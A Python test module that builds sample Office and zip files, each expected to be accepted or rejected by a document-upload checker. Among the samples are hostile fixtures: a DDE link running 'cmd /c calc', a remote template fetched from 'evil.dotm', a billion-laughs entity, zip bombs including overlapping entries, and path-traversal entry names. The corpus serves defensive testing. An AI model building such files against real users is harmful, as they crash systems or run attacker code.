"""Workbooks and documents of today, which are archives, and archives that are neither."""

import io
import zipfile
from collections.abc import Iterator, Mapping
from hashlib import shake_128

import xlsxwriter  # type: ignore[import-untyped]  # ships no types

from compliance.evidence.archives import MOST_ENTRIES
from compliance.evidence.kinds import Kind, Objection
from tests.evidence.corpus.verdicts import OLE, File

_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_PARTS = {"[Content_Types].xml": _TYPES, "word/document.xml": b"<document/>"}


def _zip(entries: Mapping[str, bytes], packed: int = zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", packed) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return kept.getvalue()


def _word(more: Mapping[str, bytes] | None = None, types: bytes = _TYPES) -> bytes:
    return _zip({**_PARTS, "[Content_Types].xml": types, **(more or {})})


def _book() -> bytes:
    kept = io.BytesIO()
    with xlsxwriter.Workbook(kept) as book:
        book.add_worksheet().write(0, 0, "髙橋")
    return kept.getvalue()


def _relation(kind: str, target: str) -> dict[str, bytes]:
    line = f'<Relationship Id="a" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": f"<Relationships>{line}</Relationships>".encode()}


def archives() -> Iterator[File]:
    book = _book()
    yield "book.xlsx", book, Kind.XLSX
    yield "letter.docx", _word(), Kind.DOCX
    yield "linked.docx", _word(_relation("hyperlink", "https://x.lg.jp")), Kind.DOCX
    yield "own-template.docx", _word(_relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm")), Kind.DOCX
    yield "chart.docx", _word({"word/embeddings/Sheet1.xlsx": book}), Kind.DOCX
    yield (
        "macro.xlsx",
        _zip({"[Content_Types].xml": _TYPES, "xl/workbook.xml": b"", "xl/vbaProject.bin": b""}),
        Objection.MACRO,
    )
    yield (
        "macro-type.docx",
        _word(types=b"<Types>application/vnd.ms-word.document.macroEnabled</Types>"),
        Objection.MACRO,
    )
    yield "program-inside.docx", _word({"word/embeddings/oleObject1.bin": OLE}), Objection.ATTACHMENT
    yield "template-elsewhere.docx", _word(_relation("attachedTemplate", "http://x/evil.dotm")), Objection.EXTERNAL
    yield "template-on-a-share.docx", _word(_relation("attachedTemplate", "\\\\10.0.0.1\\x.dotm")), Objection.EXTERNAL
    yield "object-elsewhere.docx", _word(_relation("oleObject", "https://x/y")), Objection.EXTERNAL
    laughs = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Relationships>&b;</Relationships>'
    yield "laughs.docx", _word({"_rels/.rels": laughs}), Objection.BROKEN
    yield "no-xml.docx", _word({"_rels/.rels": b"<Relationships"}), Objection.BROKEN
    yield "bomb.xlsx", _word({"xl/media/a.bin": bytes(30_000_000)}), Objection.BOMB
    yield "many.docx", _word({f"word/{number}": b"" for number in range(MOST_ENTRIES)}), Objection.BOMB
    yield "large-relations.docx", _word({"_rels/.rels": _noise(2_500_000)}), Objection.BOMB
    yield "locked-entry.docx", _locked(_word()), Objection.LOCKED
    yield from _other_kinds(book)


def _other_kinds(book: bytes) -> Iterator[File]:
    yield "files.zip", _zip({"a.txt": b"a"}), Objection.TYPE
    yield "files.xlsx", _zip({"a.txt": b"a"}), Objection.TYPE
    yield "slides.pptx", _zip({"[Content_Types].xml": _TYPES, "ppt/presentation.xml": b""}), Objection.TYPE
    yield "both.docx", _word({"xl/workbook.xml": b""}), Objection.TYPE
    yield "empty.zip", _zip({}), Objection.TYPE
    yield "cut.xlsx", book[:-30], Objection.BROKEN
    yield "head-only.xlsx", b"PK\x03\x04", Objection.BROKEN
    yield "book.docx", book, Objection.NAME
    yield "book.xlsx.exe", book, Objection.NAME
    yield from (*_odd_archives(book), *_fetching_archives(), *_other_archives())


def _odd_archives(book: bytes) -> Iterator[File]:
    """Packed as no office program packs, so that two readers may see two files."""
    yield "not-packed.docx", _zip(dict(_PARTS), zipfile.ZIP_STORED), Kind.DOCX
    yield "words-behind.xlsx", book[:-2] + b"\4\0note", Kind.XLSX
    yield "packed-otherwise.docx", _zip(dict(_PARTS), zipfile.ZIP_LZMA), Objection.BROKEN
    yield (
        "twice.docx",
        _word({"word/document.xml ": b""}).replace(b"document.xml ", b"document.xml\0"),
        Objection.BROKEN,
    )
    yield "twice-in-capitals.docx", _word({"WORD/document.xml": b"<other/>"}), Objection.BROKEN
    yield "climbing.docx", _word({"../../autostart.txt": b"x"}), Objection.BROKEN
    yield "from-the-root.docx", _word({"/etc/passwd": b"x"}), Objection.BROKEN
    yield "laid-over.docx", _laid_over(), Objection.BOMB
    yield "program-in-front.docx", b"MZ" + bytes(100) + _word(), Objection.TYPE


def _fetching_archives() -> Iterator[File]:
    yield "picture-elsewhere.docx", _word(_relation("image", "https://x/pixel.png")), Objection.EXTERNAL
    yield "template-by-ftp.docx", _word(_relation("attachedTemplate", "FTP://x/y")), Objection.EXTERNAL
    yield "page-elsewhere.docx", _word(_relation("frame", "http://x/y")), Objection.EXTERNAL
    yield "link-to-a-book.docx", _word(_relation("externalLinkPath", "file:///Y:/list.xlsx")), Kind.DOCX
    yield "other-text-inside.docx", _word({"word/afchunk.rtf": b"{\\rtf1}"}), Objection.ATTACHMENT
    yield "page-inside.docx", _word({"word/chunk.mht": b"MIME-Version: 1.0"}), Objection.ATTACHMENT
    yield "program-in-a-book.xlsx", _sheet({"xl/embeddings/tool.exe": b"MZ"}), Objection.ATTACHMENT
    yield "old-macro.xlsx", _sheet({"xl/macrosheets/sheet1.xml": b"<macrosheet/>"}), Objection.MACRO
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "asks-a-program.xlsx", _sheet({"xl/externalLinks/externalLink1.xml": dde}), Objection.EXTERNAL


def _other_archives() -> Iterator[File]:
    text = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
    yield "text.odt", _zip(text, zipfile.ZIP_STORED), Objection.TYPE
    yield "program.jar", _zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0"}), Objection.TYPE
    yield "binary.xlsb", _zip({"[Content_Types].xml": _TYPES, "xl/workbook.bin": b""}), Objection.TYPE
    yield "archive-in-an-archive.zip", _zip({"a.zip": _zip({"a.txt": b"a"})}), Objection.TYPE
    yield "macros.xlsm", _sheet(), Objection.NAME


def _sheet(more: Mapping[str, bytes] | None = None) -> bytes:
    return _zip({"[Content_Types].xml": _TYPES, "xl/workbook.xml": b"<workbook/>", **(more or {})})


def _laid_over() -> bytes:
    """Many entries over the same packed bytes, each of them within the bounds (after David Fifield, 2019)."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in _PARTS.items():
            archive.writestr(name, content)
        archive.writestr("word/a.bin", _noise(100_000))
        first = archive.infolist()[-1]
        archive.filelist.extend(_another(first, number) for number in range(100))
    return kept.getvalue()


def _another(first: zipfile.ZipInfo, number: int) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(f"word/{number}.bin")
    for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type", "flag_bits"):
        setattr(entry, name, getattr(first, name))
    return entry


def _noise(size: int) -> bytes:

    return shake_128(b"noise").digest(size)


def _locked(archive: bytes) -> bytes:
    """The same with the flag of a password in each entry."""
    changed = bytearray(archive)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + place] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)
